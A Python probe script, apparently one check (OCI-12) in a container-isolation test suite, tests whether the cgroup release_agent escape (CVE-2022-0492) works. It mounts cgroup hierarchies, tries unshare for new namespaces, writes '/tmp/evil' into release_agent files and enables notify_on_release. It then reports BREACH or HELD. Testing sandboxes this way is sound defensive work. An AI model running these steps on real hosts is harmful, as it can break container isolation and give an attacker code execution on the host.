# args: none
# OCI-12: have the host run a program when a cgroup empties (CVE-2022-0492): mount a hierarchy,
# name an agent, ask to be notified.
import ctypes
import errno
import glob
import os

libc = ctypes.CDLL(None, use_errno=True)
breach = []
held = []


def mount(kind, options):
    os.makedirs("/tmp/groups", exist_ok=True)
    done = libc.mount(b"groups", b"/tmp/groups", kind, 0, options)
    return 0 if done == 0 else ctypes.get_errno()


tries = [(b"cgroup", name) for name in (b"memory", b"rdma", b"misc", b"pids", b"none,name=x")]
tries.append((b"cgroup2", b""))
for kind, options in tries:
    error = mount(kind, options)
    if error == 0:
        breach.append(f"{kind.decode()} {options.decode()} was mounted")
    else:
        held.append(errno.errorcode.get(error, str(error)))

# With namespaces of its own, where it could make them.
for flags in (0x02000000, 0x10000000 | 0x00020000, 0x10000000 | 0x02000000 | 0x00020000):
    if libc.unshare(flags) == 0:
        for kind, options in tries:
            if mount(kind, options) == 0:
                breach.append(f"{kind.decode()} was mounted after unshare({flags:#x})")

names = ("release_agent", "notify_on_release", "cgroup.procs", "tasks")
for top in ("/sys/fs/cgroup", "/.belljar/cgroup", "/tmp/groups"):
    for name in names:
        for path in glob.glob(f"{top}/**/{name}", recursive=True):
            try:
                with open(path, "w") as file:
                    file.write("/tmp/evil\n" if name == "release_agent" else "1\n")
                breach.append(f"{path} was written")
            except OSError as e:
                held.append(errno.errorcode.get(e.errno, str(e.errno)))

if breach:
    print("BREACH", "; ".join(breach), flush=True)
else:
    print("HELD", f"{len(held)} tries: {', '.join(sorted(set(held)))}", flush=True)
